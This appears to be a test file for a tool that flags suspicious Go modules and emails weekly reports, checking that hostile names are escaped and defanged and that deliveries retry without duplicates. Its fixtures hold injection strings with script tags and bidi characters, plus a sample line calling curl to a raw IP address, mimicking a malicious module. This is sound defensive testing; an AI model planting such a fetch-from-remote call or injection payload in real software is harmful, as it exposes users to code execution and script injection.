import assert from 'node:assert/strict'
import { execFileSync } from 'node:child_process'
import { mkdtempSync, readFileSync, rmSync } from 'node:fs'
import { tmpdir } from 'node:os'
import path from 'node:path'
import { after, before, test } from 'node:test'
import { openStore, type Store } from '@mirrorwatch/store/connect'
import { deliveriesOf } from '@mirrorwatch/store/deliveries'
import { saveFindings } from '@mirrorwatch/store/findings'
import { SMTPServer } from 'smtp-server'
import { readConfig } from '../src/config.ts'
import { gatherReport } from '../src/report/data.ts'
import { addWeeks, formatIsoWeek, isoWeekAt, parseIsoWeek, weekStart } from '../src/report/iso-week.ts'
import { createMailer, type Mailer } from '../src/report/mailer.ts'
import { renderReport } from '../src/report/message.ts'
import { defang, visibleText } from '../src/report/safe-text.ts'
import { sendDueReports, sendReport } from '../src/report/send.ts'

const NOW = new Date('2026-11-24T20:00:00Z')
const IN_WEEK = '2026-11-18T12:00:00.000000Z'
const HOSTILE = 'evil.example/\u202egnp\u200b/<img src=x>&amp;{{x}}'

const folder = mkdtempSync(path.join(tmpdir(), 'mirrorwatch-report-'))
let store: Store
let server: SMTPServer
let mailer: Mailer
const received: { to: string; text: string }[] = []
const config = readConfig({ MIRRORWATCH_REPORT_TO: 'Ann@example.com,bob@example.com' }, folder)

before(async () => {
  store = await openStore({ dataDir: path.join(folder, 'data') })
  await store.db.updateTable('installation').set({ created_at: IN_WEEK }).execute()
  for (const [module, target] of [
    ['github.com/boltdb-go/bolt', 'github.com/boltdb/bolt'],
    [HOSTILE, null],
  ] as const) {
    const { id } = await store.db
      .insertInto('module')
      .values({ path: module, first_cached_at: IN_WEEK, last_cached_at: IN_WEEK })
      .returning('id')
      .executeTakeFirstOrThrow()
    const lines = [
      {
        file: 'db.go',
        line: 7,
        quote: `exec.Command("curl", "http://49.12.198.231:20022/naïve")${' '.repeat(99)}x()`,
      },
    ]
    const signals = [{ rule: 'import-process', version: 'v1.3.1', evidence: { count: 1, lines } }]
    await store.db.transaction().execute((trx) =>
      saveFindings(
        trx,
        id,
        [
          {
            target,
            severity: 'critical',
            summary: 'smuggles </td><script>alert(1)</script>',
            signals,
            because: [],
          },
        ],
        IN_WEEK,
      ),
    )
  }
  const key = path.join(folder, 'key.pem')
  const cert = path.join(folder, 'cert.pem')
  execFileSync(
    'openssl',
    [
      'req',
      '-x509',
      '-newkey',
      'rsa:2048',
      '-nodes',
      '-keyout',
      key,
      '-out',
      cert,
      '-days',
      '2',
      '-subj',
      '/CN=localhost',
      '-addext',
      'subjectAltName=DNS:localhost',
    ],
    { stdio: 'ignore' },
  )
  server = new SMTPServer({
    secure: true,
    key: readFileSync(key),
    cert: readFileSync(cert),
    onAuth: (auth, _, done) =>
      auth.username === 'user' && auth.password === 'pass word'
        ? done(null, { user: 'user' })
        : done(new Error('wrong password')),
    onData(stream, session, done) {
      const chunks: Buffer[] = []
      stream.on('data', (chunk: Buffer) => chunks.push(chunk))
      stream.on('end', () => {
        received.push({
          to: session.envelope.rcptTo[0]?.address ?? '',
          text: Buffer.concat(chunks).toString('latin1'),
        })
        done()
      })
    },
  })
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
  const { port } = server.server.address() as { port: number }
  const url = `smtps://user:pass%20word@localhost:${port}`
  const made = createMailer(
    readConfig({ MIRRORWATCH_SMTP_URL: url, MIRRORWATCH_MAIL_FROM: 'watch@example.com' }, folder),
    readFileSync(cert, 'utf8'),
  )
  assert.ok(made)
  mailer = made
})

after(async () => {
  await store.close()
  await new Promise<void>((resolve) => server.close(resolve))
  rmSync(folder, { recursive: true, force: true })
})

test('weeks are those of ISO 8601, in the given time zone', () => {
  const at = (text: string, zone = 'UTC'): string => formatIsoWeek(isoWeekAt(new Date(text), zone))
  assert.equal(at('2027-01-03T23:59:59Z'), '2026-W53')
  assert.equal(at('2027-01-03T23:59:59Z', 'Asia/Tokyo'), '2027-W01')
  assert.equal(at('2024-12-30T00:00:00Z'), '2025-W01')
  assert.equal(formatIsoWeek(addWeeks(parseIsoWeek('2026-W53'), 1)), '2027-W01')
  assert.equal(weekStart(parseIsoWeek('2026-W14'), 'Europe/Berlin').toISOString(), '2026-03-29T22:00:00.000Z')
  assert.throws(() => parseIsoWeek('2025-W53'), { code: 'bad-input' })
})

test('what cannot be seen or clicked safely is written out', () => {
  assert.equal(visibleText('a\u202eb\u200bc\u00a0'), 'a\\u{202e}b\\u{200b}c\\u{a0}')
  assert.equal(defang('https://evil.example/x.go'), 'https[:]//evil[.]example/x.go')
  assert.equal(
    defang('github.com/a/b at 1.2.3.4 or x@y.com'),
    'github[.]com/a/b at 1[.]2[.]3[.]4 or x[@]y[.]com',
  )
  assert.equal(defang('exec.Command'), 'exec.Command')
})

test('a hostile name stays text in every part', async () => {
  const report = await renderReport(await gatherReport(store.db, parseIsoWeek('2026-W47'), 'UTC', NOW), null)
  assert.equal(report.subject, 'mirrorwatch 2026-W47: 2 critical')
  for (const part of [report.html, report.text, report.csv]) {
    assert.doesNotMatch(part, /[\u202e\u200b]/)
    assert.match(part, /\\u\{202e\}gnp\\u\{200b\}/)
  }
  assert.doesNotMatch(report.html, /<(script|img|link|a )|https?:\/\/(?!www\.w3\.org)/)
  assert.match(report.html, /&lt;img src=x&gt;&amp;amp;\{\{x\}\}/)
  assert.match(report.html, /49\[\.\]12\[\.\]198\[\.\]231/)
  assert.match(report.html, /\[99 blanks\]/)
  assert.match(report.text, /http\[:\]\/\/49\[\.\]12/)
})

test('a quiet week says so', async () => {
  const report = await renderReport(await gatherReport(store.db, parseIsoWeek('2026-W40'), 'UTC', NOW), null)
  assert.match(report.subject, /a quiet week/)
  assert.match(report.text, /A quiet week: nothing new/)
})

test('a failure is tried again later; what was sent is not sent again', async () => {
  const broken: Mailer = { from: mailer.from, send: () => Promise.reject(new Error('421 try later')) }
  assert.equal((await sendDueReports({ db: store.db, config, mailer: broken }, NOW)).failed.length, 2)
  assert.equal((await sendDueReports({ db: store.db, config, mailer }, NOW)).sent.length, 0)
  const later = new Date(NOW.getTime() + 6 * 60_000)
  assert.equal((await sendDueReports({ db: store.db, config, mailer }, later)).sent.length, 2)
  assert.equal((await sendDueReports({ db: store.db, config, mailer }, later)).sent.length, 0)
  assert.equal(
    (await sendReport({ db: store.db, config, mailer }, parseIsoWeek('2026-W47'), later)).sent.length,
    0,
  )
  assert.deepEqual(received.map(({ to }) => to).toSorted(), ['ann@example.com', 'bob@example.com'])
  assert.deepEqual(
    (await deliveriesOf(store.db, 'report', '2026-W47')).map(({ state }) => state),
    ['sent', 'sent'],
  )
})

test('the mail has both parts, the table, and a fixed message id', () => {
  const [{ text } = { text: '' }] = received
  assert.match(text, /^Message-ID: <report\.2026-W47\.[0-9a-f]{24}@example\.com>/m)
  assert.match(text, /^Subject: mirrorwatch 2026-W47: 2 critical/m)
  assert.match(text, /^Content-Type: text\/plain; charset=utf-8/m)
  assert.match(text, /^Content-Type: text\/html; charset=utf-8/m)
  assert.match(text, /^Content-Type: text\/csv; charset=utf-8/m)
  assert.match(text, /na=C3=AFve/)
  assert.ok(
    text.split('\r\n').every((line) => line.length <= 998),
    'no line is longer than SMTP allows',
  )
  assert.ok(text.length < 200_000)
})

test('a process that dies after sending and before recording sends the same message id again, and once', async () => {
  const before = received.length
  const week = parseIsoWeek('2026-W46')
  const dying: Mailer = {
    from: mailer.from,
    async send(mail) {
      await mailer.send(mail)
      await store.db
        .updateTable('delivery')
        .set({ last_error: null })
        .where('subject', '=', '2026-W46')
        .execute()
      throw new Died()
    },
  }
  const one = { ...config, reportTo: ['ann@example.com'] }
  await sendReport({ db: store.db, config: one, mailer: dying }, week, NOW)
  // As if nothing had been recorded after the send: the lease alone is left.
  await store.db
    .updateTable('delivery')
    .set({ due_at: new Date(NOW.getTime() + 15 * 60_000), last_error: null })
    .where('subject', '=', '2026-W46')
    .execute()
  await sendReport({ db: store.db, config: one, mailer }, week, new Date(NOW.getTime() + 60_000))
  assert.equal(received.length, before + 1, 'the lease holds')
  await sendReport({ db: store.db, config: one, mailer }, week, new Date(NOW.getTime() + 16 * 60_000))
  await sendReport({ db: store.db, config: one, mailer }, week, new Date(NOW.getTime() + 60 * 60_000))
  const ids = received.slice(before).map(({ text }) => /^Message-ID: (.*)$/m.exec(text)?.[1])
  assert.equal(ids.length, 2)
  assert.equal(ids[0], ids[1])
})

class Died extends Error {}
